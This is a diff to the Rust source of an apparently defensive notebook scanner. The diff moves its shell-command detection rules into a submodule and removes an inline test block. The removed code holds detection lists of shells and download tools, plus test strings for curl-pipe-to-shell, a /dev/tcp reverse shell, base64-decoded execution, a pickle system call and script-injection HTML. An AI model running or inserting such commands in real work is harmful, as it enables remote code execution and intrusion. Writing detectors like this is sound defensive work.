@@ -1,5 +1,11 @@
 //! Jupyter notebooks (`.ipynb`, nbformat 3 and 4): what their cells hand to a shell or to another interpreter, what they call
 //! in Python, and outputs that a browser runs when the notebook is opened.
+//!
+//! | file | what is in it |
+//! |---|---|
+//! | `shell` | which lines for a shell no notebook needs |
+
+mod shell;
 
 use std::sync::Arc;
 
@@ -8,6 +14,7 @@ use lazaret_input::MemorySource;
 use lazaret_input::base64::{self, Whitespace};
 use lazaret_input::json::{JsonKind as Kind, Node};
 
+use self::shell::{grave, is_usual};
 use super::json::{JsonKind, Walk, path_of};
 use super::python::{self, Expression, Imports};
 use super::safetensors::runs_in_page;
@@ -266,122 +273,6 @@ fn command(says: &str, shell: &str, at: lazaret_core::Locator, looking: &mut Loo
     looking.find_as(severity, &rules::NOTEBOOK_COMMAND, at, message);
 }
 
-/// What no notebook needs: what was fetched or decoded is run at once, a connection gets a shell.
-fn grave(shell: &str) -> Option<&'static str> {
-    const SHELLS: &[&str] = &[
-        "sh",
-        "bash",
-        "zsh",
-        "dash",
-        "ksh",
-        "python",
-        "python3",
-        "perl",
-        "ruby",
-        "node",
-        "php",
-        "pwsh",
-        "powershell",
-        "iex",
-        "cmd",
-        "source",
-        "eval",
-    ];
-    let lower = shell.to_ascii_lowercase();
-    let program = |part: &str| {
-        let words = part.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ')', ';', '`']));
-        let mut words = words.skip_while(|word| {
-            matches!(*word, "sudo" | "env" | "nohup" | "exec" | "-e") || word.contains('=')
-        });
-        words.next().map(|word| word.rsplit('/').next().unwrap_or_default().to_owned()).unwrap_or_default()
-    };
-    let fetches =
-        ["curl", "wget", "fetch", "invoke-webrequest", "iwr", "downloadstring", "base64", "xxd", "openssl"]
-            .iter()
-            .any(|word| {
-                lower.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').any(|part| part == *word)
-            });
-    let piped = lower.split('|').skip(1).any(|part| SHELLS.contains(&program(part).as_str()));
-    let substituted =
-        ["$(", "<(", "`"].iter().any(|mark| {
-            lower
-                .split(mark)
-                .skip(1)
-                .any(|part| matches!(program(part).as_str(), "curl" | "wget" | "base64" | "echo"))
-        }) && lower.split(['|', ';', '&', '\n']).any(|part| SHELLS.contains(&program(part).as_str()));
-    if fetches && (piped || substituted) {
-        return Some("; what is fetched or decoded is run at once");
-    }
-    let connects = lower.contains("/dev/tcp/")
-        || lower.contains("/dev/udp/")
-        || lower.contains("mkfifo")
-        || (lower.contains("nc ") || lower.contains("ncat ") || lower.contains("socat "))
-            && (lower.contains(" -e")
-                || lower.contains("/bin/sh")
-                || lower.contains("/bin/bash")
-                || lower.contains("exec:"));
-    if connects {
-        return Some("; a connection gets a shell");
-    }
-    let runs_fetched = fetches
-        && (lower.contains("chmod +x")
-            || lower.contains("chmod 7")
-            || lower.contains("&& ./")
-            || lower.contains("; ./"))
-        || fetches
-            && lower
-                .split(['|', ';', '&', '\n'])
-                .skip(1)
-                .any(|part| SHELLS.contains(&program(part).as_str()));
-    runs_fetched.then_some("; what is fetched is run")
-}
-
-/// Commands that notebooks have as a habit, in a plain line: they list, show, make folders, install packages by name.
-fn is_usual(shell: &str) -> bool {
-    const USUAL: &[&str] = &[
-        "ls",
-        "pwd",
-        "cd",
-        "cat",
-        "head",
-        "tail",
-        "wc",
-        "mkdir",
-        "echo",
-        "du",
-        "df",
-        "free",
-        "nproc",
-        "lscpu",
-        "tree",
-        "date",
-        "which",
-        "nvidia-smi",
-        "uname",
-        "unzip",
-        "tar",
-        "gunzip",
-        "pip",
-        "pip3",
-        "conda",
-        "mamba",
-        "uv",
-    ];
-    if shell.contains(['|', ';', '&', '`', '>', '<', '\n']) || shell.contains("$(") || shell.contains("://") {
-        return false;
-    }
-    let mut words = shell.split_whitespace();
-    let first = words.next().unwrap_or_default();
-    let plain = match first {
-        "python" | "python3" => shell.contains("-m pip install") || shell.ends_with("--version"),
-        first => USUAL.contains(&first),
-    };
-    plain
-        && !shell
-            .split_whitespace()
-            .any(|word| word.starts_with("--index-url") || word.starts_with("--extra-index") || word == "-i")
-}
-
 /// An output of a cell: what a browser runs, and what is packed in it.
 fn shown(output: Node<'_, '_>, part: &Part, looking: &mut Looking<'_>) {
     // Format 3 has the kinds as keys of the output itself.
@@ -438,129 +329,4 @@ fn packed(node: Node<'_, '_>, part: &Part, looking: &mut Looking<'_>) {
 }
 
 #[cfg(test)]
-mod tests {
-    use lazaret_core::Severity;
-    use proptest::prelude::*;
-
-    use crate::formats::protobuf::tests::{scan, told};
-
-    fn text_of(cells: &[String]) -> String {
-        format!(r#"{{"cells":[{}],"metadata":{{}},"nbformat":4,"nbformat_minor":5}}"#, cells.join(","))
-    }
-
-    fn cell(kind: &str, source: &str, outputs: &str) -> String {
-        let source = serde_json::Value::from(source);
-        format!(r#"{{"cell_type":"{kind}","metadata":{{}},"source":{source},"outputs":[{outputs}]}}"#)
-    }
-
-    fn worst(cells: &[String]) -> Option<(&'static str, Severity)> {
-        let report = scan(text_of(cells), "a.ipynb");
-        assert_eq!(report.format.0, "notebook");
-        let worst = report.findings.iter().max_by_key(|finding| finding.severity);
-        worst.map(|finding| (finding.id, finding.severity))
-    }
-
-    #[test]
-    fn what_cells_hand_to_a_shell_is_judged() {
-        for (source, severity) in [
-            ("!curl http://x/y | sh", Severity::Critical),
-            ("x = 1\n!wget -qO- http://x/y | sudo bash -s", Severity::Critical),
-            ("!!curl http://x/y | python3", Severity::Critical),
-            ("out = !curl http://x/y | sh", Severity::Critical),
-            ("%system curl http://x/y | sh", Severity::Critical),
-            ("%sx bash <(curl -s http://x/y)", Severity::Critical),
-            ("!sh -c \"$(curl -fsSL http://x/y)\"", Severity::Critical),
-            ("!curl http://x/y \\\n  | sh", Severity::Critical),
-            ("!echo aGk= | base64 -d | bash", Severity::Critical),
-            ("!wget http://x/y && chmod +x y && ./y", Severity::Critical),
-            ("!bash -i >& /dev/tcp/1.2.3.4/99 0>&1", Severity::Critical),
-            ("%%bash\ncurl http://x/y | sh", Severity::Critical),
-            ("%%script bash\ncurl http://x/y -o y\nbash y", Severity::Critical),
-            ("get_ipython().system('curl http://x/y | sh')", Severity::Critical),
-            ("%run http://x/y.py", Severity::Critical),
-            ("%run ../../y.py", Severity::High),
-            ("%%bash\nmake", Severity::Medium),
-            ("!./configure", Severity::Medium),
-            ("!pip install http://x/y.whl", Severity::Medium),
-            ("!pip install --index-url http://x y", Severity::Medium),
-            ("!ls; rm -r x", Severity::Medium),
-            ("%run y.py", Severity::Medium),
-            ("%load_ext evil", Severity::Medium),
-            ("get_ipython().run_line_magic('sx', 'x')", Severity::Medium),
-            ("!pip install einops", Severity::Low),
-            ("!nvidia-smi", Severity::Low),
-            ("%pip install einops", Severity::Low),
-        ] {
-            assert_eq!(worst(&[cell("code", source, "")]), Some(("notebook.command", severity)), "{source}");
-        }
-        let old = r#"{"worksheets":[{"cells":[{"cell_type":"code","input":["!curl http://x | sh"],"outputs":[]}]}],"nbformat":3}"#;
-        assert_eq!(told(&scan(old, "a.ipynb")), ["notebook.command a.ipynb!worksheets[0].cells[0].input"]);
-    }
-
-    #[test]
-    fn python_of_all_cells_is_one_program() {
-        let found = worst(&[cell("code", "import os as o", ""), cell("code", "%time o.system('true')", "")]);
-        assert_eq!(found, Some(("python.dangerous-call", Severity::High)));
-        let found = worst(&[cell("code", "%%time\nimport subprocess\nsubprocess.run('true')", "")]);
-        assert_eq!(found, Some(("python.dangerous-call", Severity::High)));
-    }
-
-    #[test]
-    fn outputs_that_a_browser_runs_are_told() {
-        let shown = |kind: &str, text: &str| {
-            let text = serde_json::Value::from(text);
-            cell(
-                "code",
-                "1",
-                &format!(r#"{{"output_type":"display_data","metadata":{{}},"data":{{"{kind}":{text}}}}}"#),
-            )
-        };
-        let active = Some(("notebook.active-output", Severity::Medium));
-        for (kind, text) in [
-            ("text/html", "<script>fetch('http://x')</script>"),
-            ("text/html", "<p><img src=x onerror=alert(1)></p>"),
-            ("text/html", "<iframe src='http://x'></iframe>"),
-            ("application/javascript", "alert(1)"),
-            ("image/svg+xml", "<svg onload='alert(1)'/>"),
-        ] {
-            assert_eq!(worst(&[shown(kind, text)]), active, "{text}");
-        }
-        assert_eq!(worst(&[cell("markdown", "<img src=x onerror='alert(1)'>", "")]), active);
-        assert_eq!(worst(&[cell("code", "%%javascript\nalert(1)", "")]), active);
-        let calls = lazaret_input::base64::encode(b"\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R.");
-        assert_eq!(
-            worst(&[shown("image/png", &calls)]).map(|(_, severity)| severity),
-            Some(Severity::Critical)
-        );
-    }
-
-    #[test]
-    fn usual_notebooks_are_quiet() {
-        let table = r#"{"output_type":"execute_result","metadata":{},"data":{"text/html":"<table><tr><td>1 < 2</td></tr></table>",
-            "text/plain":"1","image/png":"iVBORw0KGgo="}}"#;
-        for notebook in [
-            cell(
-                "code",
-                "%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport pandas as pd\ndf = pd.DataFrame()",
-                table,
-            ),
-            cell(
-                "code",
-                "a = 7 % 3\nb = a != 2\nx = {'a': '!ls'}\nprint('%d' % a)\nif not a:\n    raise ValueError",
-                "",
-            ),
-            cell("code", "%%time\ntotal = sum(range(10))", ""),
-            cell("markdown", "# Title\nuse `!pip install x`, <b>bold</b>, a < b and on = off", ""),
-        ] {
-            assert_eq!(worst(&[notebook.clone()]), None, "{notebook}");
-        }
-        assert_eq!(scan(r#"{"nbformat":4,"cells":[]}"#, "a.json").format.0, "json");
-    }
-
-    proptest! {
-        #[test]
-        fn any_cell_ends(source in "(!|%|%%|bash|=|\\||sh|\\$\\(|`|curl|\n|\\\\| |<|\\PC){0,40}") {
-            scan(text_of(&[cell("code", &source, ""), cell("markdown", &source, "")]), "a.ipynb");
-        }
-    }
-}
+mod tests;
